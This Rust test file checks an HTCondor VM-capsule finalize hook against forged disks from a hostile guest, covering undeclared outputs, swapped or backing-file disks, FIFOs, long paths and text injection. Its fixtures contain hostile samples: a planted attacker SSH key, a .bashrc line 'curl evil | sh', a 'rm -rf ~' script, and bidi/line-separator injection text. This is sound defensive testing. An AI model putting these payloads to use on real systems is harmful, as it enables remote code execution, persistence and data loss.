//! A hostile guest: it controls every byte of the returned data disk.

use super::*;
use crate::cmd::{assert_ok, run_ok};

/// 11.1: entries the job never declared are reported, not placed.
#[test]
fn item_01_undeclared_outputs_are_not_placed() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "undeclared", "transfer_output_files = out.txt", 1101);
    fs::write(j.iwd.join("input.dat"), "mine").unwrap();
    let tar = tar_of(&[
        (".ssh/authorized_keys", b"ssh-ed25519 attacker"),
        (".bashrc", b"curl evil | sh"),
        ("job.sh", b"#!/bin/sh\nrm -rf ~"),
        ("input.dat", b"replaced"),
        ("out.txt", b"the real output"),
    ]);
    let (_, attrs) = run_forged(&pool, &j, &result_json(0, &["out.txt"], None), Some(&tar));
    assert_eq!(listing(&j.iwd), vec!["input.dat", "job.sh", "out.txt"]);
    assert_eq!(
        fs::read_to_string(j.iwd.join("job.sh")).unwrap(),
        "#!/bin/sh\ntrue\n"
    );
    assert_eq!(fs::read_to_string(j.iwd.join("input.dat")).unwrap(), "mine");
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(125));
    let err = string_attr(&attrs, "VMCapsuleError").unwrap();
    assert!(err.contains("\".bashrc\" was not placed"), "{err}");
}

/// 11.1, default rule: top-level files only, never the executable, never a directory.
#[test]
fn item_01_default_rule_places_what_htcondor_would() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "default-rule", "", 1102);
    let tar = tar_of(&[
        (".ssh/authorized_keys", b"key"),
        ("job.sh", b"replaced"),
        ("new.txt", b"new"),
    ]);
    let (_, attrs) = run_forged(&pool, &j, &result_json(0, &["new.txt"], None), Some(&tar));
    assert_eq!(listing(&j.iwd), vec!["job.sh", "new.txt"]);
    assert_eq!(
        fs::read_to_string(j.iwd.join("job.sh")).unwrap(),
        "#!/bin/sh\ntrue\n"
    );
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(125));
}

/// 11.4: ten thousand nested entries are placed in one pass, well within the hook's bound.
#[test]
fn item_04_nested_entries_are_placed_in_linear_time() {
    let mut pool = Pool::new(&template(ImageFormat::Qcow2));
    pool.env
        .push(("_CONDOR_VM_CAPSULE_HOOK_TIMEOUT".into(), "60".into()));
    let j = job(&pool, "nested", "transfer_output_files = d", 1104);
    let mut tar = Vec::new();
    let mut dir = String::from("d");
    for level in 0..200 {
        tar.extend(member(dir.as_bytes(), tar::EntryType::Directory, b""));
        for f in 0..49 {
            tar.extend(member(
                format!("{dir}/f{level}-{f}").as_bytes(),
                tar::EntryType::Regular,
                b"x",
            ));
        }
        dir.push_str("/d");
    }
    tar.extend([0u8; 1024]);
    let started = std::time::Instant::now();
    let (_, attrs) = run_forged(&pool, &j, &result_json(0, &["d"], None), Some(&tar));
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(0), "{attrs:?}");
    assert_eq!(
        crate::execute_node::files_under(&j.iwd.join("d")).len(),
        200 * 49
    );
    // Generous: the bound is the hook's own timeout; before the fix this took minutes.
    assert!(started.elapsed().as_secs() < 60);
}

/// 11.5: a 50 MiB GNU long name costs no more than the hook's usual memory.
#[test]
fn item_05_long_names_do_not_cost_memory() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "longname", "request_disk = 204800", 1105);
    let name = "a/".repeat(25 << 20);
    let mut tar = member(name.as_bytes(), tar::EntryType::Regular, b"x");
    tar.extend(member(b"ok.txt", tar::EntryType::Regular, b"fine"));
    tar.extend([0u8; 1024]);
    let routed = pool.translate(&j.ad).unwrap();
    let disk = scratch_of(&routed).join(string_attr(&routed, "VMCapsuleDataDisk").unwrap());
    forge(&disk, &result_json(0, &["ok.txt"], None), Some(&tar));
    let (rss_kib, stdout) = finalize_rss(&pool, &j.ad, &routed);
    let attrs = classad::parse_old_ad(&stdout).unwrap();
    assert_eq!(fs::read_to_string(j.iwd.join("ok.txt")).unwrap(), "fine");
    assert!(string_attr(&attrs, "VMCapsuleError")
        .unwrap()
        .contains("long name is"));
    assert!(rss_kib < 64 * 1024, "finalize peak RSS {rss_kib} KiB");
}

/// Run finalize under GNU time: its peak RSS (KiB) and stdout.
fn finalize_rss(pool: &Pool, original: &ClassAd, routed: &ClassAd) -> (u64, String) {
    let mut src = original.clone();
    src.insert("JobStatus", Expr::integer(4));
    let stdin = format!("{}\n------\n{}", print_ad(&src), print_ad(routed));
    let dir = tempfile::tempdir().unwrap();
    let report = dir.path().join("rss");
    let out = assert_ok(
        crate::router::output_with_stdin(
            Command::new("/usr/bin/time")
                .arg("-f")
                .arg("%M")
                .arg("-o")
                .arg(&report)
                .arg(pool.hooks_dir.join("vm-capsule-finalize"))
                .env_clear()
                .envs(pool.env.iter().map(|(k, v)| (k.as_str(), v.as_str()))),
            stdin.as_bytes(),
            "GNU time (/usr/bin/time, Debian package `time`) is needed; .ci/run installs it",
        ),
        "finalize under GNU time",
    );
    let rss = fs::read_to_string(&report).unwrap().trim().parse().unwrap();
    (rss, String::from_utf8(out.stdout).unwrap())
}

/// 11.6: a FIFO named like a VMware delta is never opened.
#[test]
fn item_06_a_fifo_in_scratch_does_not_hang_finalize() {
    let mut pool = Pool::new(&template(ImageFormat::Vmdk));
    pool.env
        .push(("_CONDOR_VM_CAPSULE_HOOK_TIMEOUT".into(), "30".into()));
    let j = job(&pool, "fifo", "output = out.txt", 1106);
    let routed = pool.translate(&j.ad).unwrap();
    let scratch = scratch_of(&routed);
    forge(&scratch.join("data.vmdk"), &result_json(4, &[], None), None);
    run_ok(Command::new("mkfifo").arg(scratch.join("data-000001.vmdk")));
    let started = std::time::Instant::now();
    let (_, attrs) = pool.finalize(&j.ad, &routed);
    assert!(started.elapsed().as_secs() < 30);
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(4));
}

/// 11.15: a returned disk that is not what was staged is refused, and nothing is placed.
#[test]
fn item_15_a_swapped_disk_is_refused() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "swapped", "", 1115);
    let routed = pool.translate(&j.ad).unwrap();
    let disk = scratch_of(&routed).join("data.qcow2");
    // A 5 GiB raw image (sparse here) carrying a valid result and an output.
    fs::remove_file(&disk).unwrap();
    let raw = DataDisk::create(
        &disk,
        &CreateOptions::new().size(5 << 30).format(ImageFormat::Raw),
    )
    .unwrap();
    raw.finish().unwrap();
    forge(
        &disk,
        &result_json(0, &["big.txt"], None),
        Some(&tar_of(&[("big.txt", b"x")])),
    );
    let (_, attrs) = pool.finalize(&j.ad, &routed);
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(125));
    let err = string_attr(&attrs, "VMCapsuleError").unwrap();
    assert!(err.contains("refused"), "{err}");
    assert!(!j.iwd.join("big.txt").exists());
}

/// The virtual size of the disk translate staged.
fn staged_size(disk: &Path) -> u64 {
    capsule_disk::Image::open(disk, Access::ReadOnly)
        .unwrap()
        .virtual_size()
}

/// A raw data disk of `size` bytes whose result says the job made `planted.txt`, which it
/// carries: what the guest would like finalize to read.
fn planted_disk(path: &Path, size: u64) {
    DataDisk::create(
        path,
        &CreateOptions::new().size(size).format(ImageFormat::Raw),
    )
    .unwrap()
    .finish()
    .unwrap();
    forge(
        path,
        &result_json(0, &["planted.txt"], None),
        Some(&tar_of(&[("planted.txt", b"x")])),
    );
}

/// 11.15: a returned disk whose container reaches outside its job dir (a qcow2 backing file
/// elsewhere, a VMware extent that is a symlink) is refused: the staged disk had neither, and
/// the outputs would come from a file the disk only names.
#[test]
fn item_15_a_disk_naming_files_outside_its_dir_is_refused() {
    // qcow2 with a backing file outside scratch, made with QEMU's own tool.
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "backed", "", 1151);
    let routed = pool.translate(&j.ad).unwrap();
    let disk = scratch_of(&routed).join("data.qcow2");
    let size = staged_size(&disk);
    let elsewhere = pool.root.path().join("elsewhere.img");
    planted_disk(&elsewhere, size);
    fs::remove_file(&disk).unwrap();
    run_ok(
        Command::new("qemu-img")
            .args(["create", "-q", "-f", "qcow2", "-F", "raw", "-b"])
            .arg(&elsewhere)
            .arg(&disk)
            .arg(size.to_string()),
    );
    let (_, attrs) = pool.finalize(&j.ad, &routed);
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(125));
    let err = string_attr(&attrs, "VMCapsuleError").unwrap();
    assert!(err.contains("elsewhere.img"), "{err}");
    assert!(err.contains("refused"), "{err}");
    assert!(!j.iwd.join("planted.txt").exists());

    // A VMware descriptor whose extent is a symlink to a disk elsewhere.
    let pool = Pool::new(&template(ImageFormat::Vmdk));
    let j = job(&pool, "linked-extent", "", 1152);
    let routed = pool.translate(&j.ad).unwrap();
    let scratch = scratch_of(&routed);
    let size = staged_size(&scratch.join("data.vmdk"));
    let elsewhere = pool.root.path().join("elsewhere-flat.vmdk");
    planted_disk(&elsewhere, size);
    std::os::unix::fs::symlink(&elsewhere, scratch.join("data-flat.vmdk")).unwrap();
    fs::write(
        scratch.join("data.vmdk"),
        format!("# Disk DescriptorFile\nversion=1\nCID=12345678\nparentCID=ffffffff\ncreateType=\"monolithicFlat\"\n\nRW {} FLAT \"data-flat.vmdk\" 0\n", size / 512),
    )
    .unwrap();
    let (_, attrs) = pool.finalize(&j.ad, &routed);
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(125));
    let err = string_attr(&attrs, "VMCapsuleError").unwrap();
    assert!(err.contains("data-flat.vmdk"), "{err}");
    assert!(!j.iwd.join("planted.txt").exists());
}

/// 11.16: a file whose data the archive cuts short is not placed.
#[test]
fn item_16_truncated_entries_are_not_placed() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "truncated", "transfer_output_files = out.txt", 1116);
    fs::write(j.iwd.join("out.txt"), "previous").unwrap();
    let mut tar = member(b"out.txt", tar::EntryType::Regular, &[b'y'; 4096]);
    tar.truncate(512 + 100);
    let (_, attrs) = run_forged(&pool, &j, &result_json(0, &["out.txt"], None), Some(&tar));
    assert_eq!(
        fs::read_to_string(j.iwd.join("out.txt")).unwrap(),
        "previous"
    );
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(125));
    assert_eq!(listing(&j.iwd), vec!["job.sh", "out.txt"]);
}

/// 11.19: guest text in `VMCapsuleError` keeps to a safe subset: no line or paragraph
/// separators, no bidi overrides, bounded.
#[test]
fn item_19_guest_text_is_made_safe() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "text", "", 1119);
    let hostile = format!("ok\u{2028}Injected = 1\u{202e}gnp.exe{}", "z".repeat(3_000));
    let (run, attrs) = run_forged(&pool, &j, &result_json(0, &[], Some(&hostile)), None);
    let err = string_attr(&attrs, "VMCapsuleError").unwrap();
    assert!(
        err.starts_with("the guest agent reported: ok?Injected = 1?gnp.exe"),
        "{err}"
    );
    assert!(err.chars().count() < 1100);
    assert!(!run.stdout.contains('\u{2028}') && !run.stdout.contains('\u{202e}'));
    assert!(attrs.get("Injected").is_none());
}

/// 11.20: a refused entry leaves nothing of itself behind (a path past PATH_MAX).
#[test]
fn item_20_a_refused_path_leaves_no_partial_tree() {
    let pool = Pool::new(&template(ImageFormat::Qcow2));
    let j = job(&pool, "partial", "transfer_output_files = a", 1120);
    let deep = "a/".repeat(10_000) + "f";
    let mut tar = member(deep.as_bytes(), tar::EntryType::Regular, b"x");
    tar.extend([0u8; 1024]);
    let (_, attrs) = run_forged(&pool, &j, &result_json(0, &["a"], None), Some(&tar));
    assert_eq!(attr(&attrs, "ExitCode"), Value::Integer(125));
    assert_eq!(listing(&j.iwd), vec!["job.sh"]);
    assert!(!j.iwd.join("a").exists());
}
